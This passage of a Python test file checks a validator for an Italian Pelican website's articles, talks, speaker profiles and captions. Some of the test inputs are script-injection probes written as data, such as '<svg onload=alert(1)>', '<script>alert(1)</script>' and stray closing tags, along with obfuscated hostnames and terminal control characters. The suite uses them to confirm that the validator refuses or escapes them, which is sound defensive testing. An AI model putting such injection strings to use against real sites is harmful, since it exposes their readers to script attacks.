     [f"{T}:4: tags: '<svg onload=alert(1)>' gives no URL"], "use letters"),
    # Author profiles -----------------------------------------------------------
    ({"authors/caso.md": "Role: Community manager\n\nBio.\n"},
     [f"{AU}:1: name: missing"], "add 'Name: Nome Cognome'"),
    ({"authors/caso.md": AUTHOR + "\n![foto](https://example.org/foto.png)\n"},
     [f"{AU}:3: body: <img src> loads https://example.org/foto.png from another "
      "site"], "download it with"),
    # A second hostile round ---------------------------------------------------
    # A published page linking a draft: a line naming both files.
    ({"articles/bozza.md": DRAFT,
      "articles/caso.md": ARTICLE + "\nLeggi [la bozza]({filename}/articles/bozza.md).\n"},
     [f"{A}:4: link: {{filename}}/articles/bozza.md {links('content/articles/bozza.md')}"],
     "publish that page first"),
    ({"talks/bozza.md": DRAFT_TALK + "Status: draft\n\nx\n",
      "articles/caso.md": ARTICLE + "\nVedi [la serata]({filename}/talks/bozza.md).\n"},
     [f"{A}:4: link: {{filename}}/talks/bozza.md {links('content/talks/bozza.md')}"]),
    ({"articles/bozza.md": DRAFT,
      "talks/caso.md": TALK2 + "\nCome detto [qui]({filename}/articles/bozza.md).\n"},
     [f"{T}:5: link: {{filename}}/articles/bozza.md {links('content/articles/bozza.md')}"]),
    ({"articles/bozza.md": DRAFT,
      "articles/caso.rst": RST + "Vedi `la bozza <{filename}/articles/bozza.md>`_.\n"},
     [f"{R}:8: link: {{filename}}/articles/bozza.md {links('content/articles/bozza.md')}"]),
    ({"articles/bozza.md": DRAFT,
      "pages/caso.md": PAGE + "\n[bozza]({filename}/articles/bozza.md)\n"},
     [f"{P}:3: link: {{filename}}/articles/bozza.md {links('content/articles/bozza.md')}"]),
    ({"articles/bozza.md": DRAFT,
      "speakers/caso.md": MARIO + "\nHa scritto [questo]({filename}/articles/bozza.md).\n"},
     [f"{S}:4: link: {{filename}}/articles/bozza.md {links('content/articles/bozza.md')}"]),
    ({"pages/bozza.md": "Title: Pagina in bozza\nStatus: draft\n\nx\n",
      "articles/caso.md": ARTICLE + "\n[pagina]({filename}/pages/bozza.md)\n"},
     [f"{A}:4: link: {{filename}}/pages/bozza.md {links('content/pages/bozza.md')}"]),
    ({"articles/bozza.md": DRAFT,
      "articles/caso.md": ARTICLE
      + 'Summary: vedi <a href="{filename}/articles/bozza.md">la bozza</a>\n\nx\n'},
     [f"{A}:3: link: {{filename}}/articles/bozza.md {links('content/articles/bozza.md')}"]),
    ({"articles/bozza.md": DRAFT,
      "articles/caso.md": ARTICLE
      + "\n![foto]({static}/images/foto.png) [bozza]({filename}/articles/bozza.md)\n"},
     [f"{A}:4: link: {{filename}}/articles/bozza.md {links('content/articles/bozza.md')}"]),
    # Captions: timings out of range and control characters are refused.
    ({"talks/caso.md": CAPTIONED,
      "talks/caso.vtt": captions(("00:60:00.000 --> 00:60:05.000", "parole"))},
     [f"{V}:3: transcript: '00:60:00.000 --> 00:60:05.000' {NOT_CUE}"],
     "write it as 00:01:02.500 --> 00:01:05.000"),
    ({"talks/caso.md": CAPTIONED,
      "talks/caso.vtt": captions(("00:01:75.000 --> 00:01:80.000", "parole"))},
     [f"{V}:3: transcript: '00:01:75.000 --> 00:01:80.000' {NOT_CUE}"]),
    ({"talks/caso.md": CAPTIONED,
      "talks/caso.vtt": captions(("01:99.000 --> 02:00.000", "parole"))},
     [f"{V}:3: transcript: '01:99.000 --> 02:00.000' {NOT_CUE}"]),
    ({"talks/caso.md": CAPTIONED,
      "talks/caso.vtt": captions(("00:00:01.000 --> 00:00:02.000", "uno"),
                                 ("00:61:00.000 --> 00:62:00.000", "due"))},
     [f"{V}:6: transcript: '00:61:00.000 --> 00:62:00.000' {NOT_CUE}"]),
    ({"talks/caso.md": CAPTIONED,
      "talks/caso.vtt": captions(("00:00:01.000 --> 00:00:02.000", "uno"),
                                 ("00:00:03.000 --> 00:00:04.000", "suono \x07 campanello"))},
     [f"{V}:7: transcript: holds the control character U+0007"], "delete it"),
    ({"talks/caso.md": CAPTIONED,
      "talks/caso.vtt": captions(("00:00:01.000 --> 00:00:02.000", "colore \x1b[31mrosso"))},
     [f"{V}:4: transcript: holds the control character U+001B"]),
    ({"talks/caso.md": CAPTIONED,
      "talks/caso.vtt": captions(("00:00:01.000 --> 00:00:02.000", "a\x00b"))},
     [f"{V}:4: transcript: holds the control character U+0000"]),
    ({"talks/caso.md": CAPTIONED,
      "talks/caso.vtt": captions(("00:00:01.000 --> 00:00:02.000", "canc\x7fellato"))},
     [f"{V}:4: transcript: holds the control character U+007F"]),
    # {static} and {filename} in srcset: Pelican leaves them, so refused.
    ({"articles/caso.md": ARTICLE + '\n<img alt="x" src="{static}/images/foto.png" '
      'srcset="{static}/images/foto.png 2x">\n'},
     [f"{A}:4: body: <img srcset> {SRCSET}"], "show one picture with src"),
    ({"articles/caso.md": ARTICLE + '\n<picture><source srcset="{static}/images/foto.png">'
      '<img alt="x" src="{static}/images/foto.png"></picture>\n'},
     [f"{A}:4: body: <source srcset> {SRCSET}"]),
    ({"articles/caso.md": ARTICLE + '\n<img alt="x" src="{static}/images/foto.png" '
      'srcset="{filename}/articles/caso.md 1x">\n'},
     [f"{A}:4: body: <img srcset> {SRCSET}"]),
    ({"articles/caso.md": ARTICLE + '\n<img alt="x" src="/images/foto.png" '
      'srcset="{static}/images/foto.png 1x, {static}/images/foto.png 2x">\n'},
     [f"{A}:4: body: <img srcset> {SRCSET}"]),
    # Names equal but for case or Unicode normalisation: both files named.
    ({"articles/Caso.md": ARTICLE + "\nUno.\n", "articles/caso.md": OTHER + "\nDue.\n"},
     [collide("content/articles/Caso.md", "content/articles/caso.md"),
      collide("content/articles/caso.md", "content/articles/Caso.md")],
     "rename one of them"),
    ({"articles/caf\u00e9.md": ARTICLE + "\nUno.\n",
      "articles/cafe\u0301.md": OTHER + "\nDue.\n"},
     [collide("content/articles/cafe\u0301.md", "content/articles/caf\u00e9.md"),
      collide("content/articles/caf\u00e9.md", "content/articles/cafe\u0301.md")]),
    ({"images/Foto.png": tiny_png()},
     [collide("content/images/Foto.png", "content/images/foto.png"),
      collide("content/images/foto.png", "content/images/Foto.png")]),
    ({"speakers/Mario.md": MARIO, "speakers/mario.md": "Name: Mario Bianchi\nHandle: mario.bianchi\n"},
     [collide("content/speakers/Mario.md", "content/speakers/mario.md"),
      collide("content/speakers/mario.md", "content/speakers/Mario.md")]),
    ({"pages/Caso.md": PAGE + "\nUno\n", "pages/caso.md": "Title: Altra pagina\n\nDue\n"},
     [collide("content/pages/Caso.md", "content/pages/caso.md"),
      collide("content/pages/caso.md", "content/pages/Caso.md")]),
    ({"articles/caso.md": ARTICLE + "Slug: Serata\n\nUno.\n",
      "articles/altro.md": OTHER + "Slug: serata\n\nDue.\n"},
     ["content/articles/altro.md:3: slug: its page /blog/2020/serata/index.html is also "
      "made by content/articles/caso.md",
      f"{A}:3: slug: its page /blog/2020/Serata/index.html is also made by "
      "content/articles/altro.md"], "write a different 'Slug:'"),
    ({"talks/caso.md": TALK + "Slug: Serata-X\n\nx\n",
      "talks/altro.md": DRAFT_TALK + "Slug: serata-x\n\nx\n"},
     ["content/talks/altro.md:4: slug: its page /videoconferenze/serata-x/index.html is "
      "also made by content/talks/caso.md",
      f"{T}:4: slug: its page /videoconferenze/Serata-X/index.html is also made by "
      "content/talks/altro.md"]),
    # An RST title Pelican or docutils would report in their own words.
    ({"articles/caso.rst": "Caso RST\n########\nSecondo titolo\n##############\n\n"
      ":date: 2020-01-02\n\nTesto.\n"},
     [f"{R}:1: title: is not one heading of its own"], "write the title on its first line"),
    ({"articles/caso.rst": "########\nCaso RST\n######\n\n:date: 2020-01-02\n\nTesto.\n"},
     [f"{R}:1: rst: Title overline & underline mismatch"]),
    # Dead links and pictures, in every build (not only `invoke check`).
    ({"articles/caso.md": ARTICLE + "\n[manca]({filename}/articles/manca.md)\n"},
     [f"{A}:4: link: {{filename}}/articles/manca.md {DEAD}"], "check the path"),
    ({"articles/caso.md": ARTICLE + "\n[altro](/blog/2099/niente/)\n"},
     [f"{A}:4: link: /blog/2099/niente/ {DEAD}"]),
    ({"talks/caso.md": TALK2 + "\n[manca]({filename}/talks/manca.md)\n"},
     [f"{T}:5: link: {{filename}}/talks/manca.md {DEAD}"]),
    ({"speakers/caso.md": MARIO + "\nVedi [qui]({filename}/articles/manca.md).\n"},
     [f"{S}:4: link: {{filename}}/articles/manca.md {DEAD}"]),
    ({"articles/caso.md": ARTICLE + "\n[sorgente]({static}/talks/caso.md)\n"},
     [f"{A}:4: link: {{static}}/talks/caso.md {DEAD}"]),
    ({"articles/caso.md": ARTICLE + "\n![manca]({static}/images/manca.png)\n"},
     [f"{A}:4: body: file images/manca.png not found in content/"]),
    # Every problem of a file, each at its own line.
    ({"articles/caso.md": ARTICLE + "\n![a](https://a.example/1.png)\n\n"
      "![b](https://a.example/2.png)\n\n![c](https://a.example/3.png)\n"},
     [f"{A}:{line}: body: <img src> loads https://a.example/{n}.png from another site"
      for line, n in ((4, 1), (6, 2), (8, 3))]),
    ({"articles/caso.md": ARTICLE + "\n<script>1</script>\n\ntesto\n\n<script>2</script>\n"},
     [f"{A}:4: body: <script> runs a script", f"{A}:8: body: <script> runs a script"]),
    ({"articles/caso.md": ARTICLE
      + "\n[a]({filename}/articles/manca1.md) e [b]({filename}/articles/manca2.md)\n"},
     [f"{A}:4: link: {{filename}}/articles/manca1.md {DEAD}",
      f"{A}:4: link: {{filename}}/articles/manca2.md {DEAD}"]),
]  # fmt: skip


def refused(message):
    """The refused case whose first line holds ``message``."""
    [case] = [case for case in REFUSED if message in case[1][0]]
    return case


# Ten careless files at once: every problem of every file in one run.
AT_ONCE = [*REFUSED[:8], refused("tags: 'lunghissimo"), refused("'!!!' gives no URL")]

# A few cases of different kinds that also go through the three real commands
# (subprocesses), to show that they agree with the in-process runs: a bad
# field, the HTML policy, a symbolic link, a talk naming a speaker that no
# other file declares.
BY_THE_REAL_COMMANDS = [
    refused("date: 'ieri' is not a valid date"),
    refused("caso.md:6: body: <script> runs a script"),
    refused("fuori.png:1: file: is a symbolic link"),
    refused("unknown speaker 'stefano.pasqini'"),
]

LONG = "Una serata lunghissima sulla sicurezza " * 80

# Accepted: what a writer may legitimately do builds and harms no reader.
# (files, the URL of a page the build must write, that page's language)
ACCEPTED = [
    (
        {
            "articles/caso.md": "Title: <script>alert(1)</script></script> & co\n"
            'Date: 2020-01-02\nSummary: <b>grassetto</b> & "virgolette" </script>\n'
            "Tags: <b>tag</b>\n\nTesto.\n"
        },
        "/blog/2020/scriptalert1scriptscript-co/",
        "it",
    ),
    (
        {
            "articles/caso.md": "\ufeffTitle: Con BOM\r\nDate: 2020-01-02\r\n\r\nTesto.\r\n"
        },
        "/blog/2020/con-bom/",
        "it",
    ),
    (
        {
            "articles/caso.md": "Title: In English\nDate: 2020-01-02\nLang: en\n\nHello.\n"
        },
        "/blog/2020/in-english/en/",
        "en",
    ),
    (
        {"articles/caso.md": f"Title: {LONG}\nDate: 2020-01-02\n\nTesto.\n"},
        "/blog/2020/una-serata-lunghissima-sulla-sicurezza-una-serata-lunghissima-sulla-sicurezza/",
        "it",
    ),
    (
        {
            "talks/caso.md": "Title: </script><b>Serata</b>\nDate: 2020-02-03 17:00\n"
            "Speakers: stefano.pasquini\nSummary: <i>Serata</i> </textarea>\n"
            'Slides: https://example.org/s.pdf?a=1&b="2"\n\nTesto.\n'
        },
        "/videoconferenze/scriptbseratab/",
        "it",
    ),
    (
        {
            "talks/caso.md": "Title: A talk in English\nDate: 2020-02-03 17:00\n"
            "Speakers: stefano.pasquini\nLang: en\n\nHello.\n"
        },
        "/videoconferenze/a-talk-in-english/",
        "en",
    ),
    (
        {
            "talks/caso.md": f"Title: {LONG}\nDate: 2020-02-03 17:00\n"
            "Speakers: stefano.pasquini\n\nx\n"
        },
        "/videoconferenze/una-serata-lunghissima-sulla-sicurezza-una-serata-lunghissima-sulla-sicurezza/",
        "it",
    ),
    (
        {
            "talks/caso.rst": "Serata in RST\n#############\n\n:date: 2020-02-03 17:00\n"
            ":speakers: stefano.pasquini\n\nTesto.\n\n.. youtube:: dQw4w9WgXcQ\n"
        },
        "/videoconferenze/serata-in-rst/",
        "it",
    ),
    (
        {
            "articles/caso.md": "Title: Video incollato\nDate: 2020-01-02\n\n"
            '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ?start=5" '
            'title="<b>x</b>"></iframe>\n'
        },
        "/blog/2020/video-incollato/",
        "it",
    ),
    (
        {
            "speakers/caso.md": "Name: Mario <b>Rossi</b>\nHandle: mario.rossi\n"
            "Company: </script>Srl\nWebsite: https://example.org/?q=<x>\nLang: en\n\n"
            "Bio <em>ok</em>.\n"
        },
        "/relatori/mario-brossib/",
        "en",
    ),
    (
        {
            "articles/caso.md": ARTICLE
            + '\n<iframe src="https://WWW.YOUTUBE-NOCOOKIE.COM/embed/dQw4w9WgXcQ">'
            "</iframe>\n"
        },
        "/blog/2020/un-articolo/",
        "it",
    ),
    (
        {
            "articles/caso.md": ARTICLE
            + '\n<iframe src="https://www.you&#116;ube-nocookie.com/embed/dQw4w9WgXcQ">'
            "</iframe>\n"
        },
        "/blog/2020/un-articolo/",
        "it",
    ),
    (
        {
            "articles/caso.md": ARTICLE
            + "\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\nNota[^1].\n\n[^1]: Una nota.\n"
        },
        "/blog/2020/un-articolo/",
        "it",
    ),
    (
        {
            "images/logo.svg": svg(
                "<title>Logo</title><defs><linearGradient id='g'><stop offset='0'/>"
                "</linearGradient></defs><rect width='10' height='10' fill='url(#g)'/>"
                "<use href='#g'/>"
            ),
            "articles/caso.md": ARTICLE + "\n![Il logo]({static}/images/logo.svg)\n",
        },
        "/blog/2020/un-articolo/",
        "it",
    ),
    (
        {"articles/caso.md": ARTICLE + "Lang: en-GB\n\nHello.\n"},
        "/blog/2020/un-articolo/en-GB/",
        "en-GB",
    ),
    # A page needs no date.
    ({"pages/caso.md": PAGE + "\nUna pagina senza data.\n"}, "/una-pagina/", "it"),
    # A field that may repeat: each tag gets its page.
    (
        {
            "talks/caso.md": TALK.replace("Una serata", "Due tag")
            + "Tags: backup\nTags: rete\n\nx\n"
        },
        "/videoconferenze/tag/rete/",
        "it",
    ),
    # A draft talk may wait for its speakers (the playlist import writes them).
    (
        {"talks/caso.md": "Title: Bozza\nDate: 2020-01-13\nStatus: draft\n\nx\n"},
        "/videoconferenze/",
        "it",
    ),    # A second hostile round: text kept as written, the theme's ids its own,
    # mentions only in text, links to what a file is rather than how it is named.
    ({"articles/caso.md": "Title: a<b e b>c\nDate: 2020-01-02\n\nx\n"},
     "/blog/2020/ab-e-bc/", "it"),
    ({"articles/caso.rst": "Titolo <uno> & due\n##################\n\n"
      ":date: 2020-01-02\n\nTesto.\n"},
     "/blog/2020/titolo-uno-due/", "it"),
    ({"articles/caso.md": "Title: Indice\nDate: 2020-01-02\n\n## Contenuto\n\n"
      "## Cerca nel sito\n\nx\n"},
     "/blog/2020/indice/", "it"),
    ({"articles/caso.md": "Title: Riassunto\nDate: 2020-01-02\n"
      'Summary: <span id="ricerca">x</span> <b id="contenuto">y</b>\n\nx\n'},
     "/blog/2020/riassunto/", "it"),
    ({"articles/caso.rst": RST + "Scrivi ``@stefano.pasquini`` così.\n"},
     "/blog/2020/caso-rst/", "it"),
    ({"articles/caso.md": "Title: Indirizzi\nDate: 2020-01-02\n\n"
      "Vedi https://example.org/@stefano.pasquini o scrivi a mario@stefano.pasquini\n"},
     "/blog/2020/indirizzi/", "it"),
    ({"articles/caso.rst": "Logo in RST\n###########\n\n:date: 2020-01-02\n\n"
      ".. image:: {static}/images/logo.svg\n   :alt: logo\n",
      "images/logo.svg": svg('<rect width="5" height="5"/>')},
     "/blog/2020/logo-in-rst/", "it"),
    ({"articles/caso.md": "Title: Scambiati\nDate: 2020-01-02\n\n"
      "[l'articolo]({static}/articles/articolo.md) e [la foto]({filename}/images/foto.png)\n"},
     "/blog/2020/scambiati/", "it"),
]  # fmt: skip


def accepted(text):
    """The accepted case one of whose files holds ``text``."""
    [case] = [
        case
        for case in ACCEPTED
        if any(isinstance(t, str) and text in t for t in case[0].values())
    ]
    return case


# The boundary's own accepted cases: pasted players, tables, an inert SVG,
# a language, a page without a date.
BOUNDARY_ACCEPTED = [
    case
    for case in ACCEPTED
    if case[1].startswith(("/blog/2020/un-articolo/", "/una-pagina/"))
]
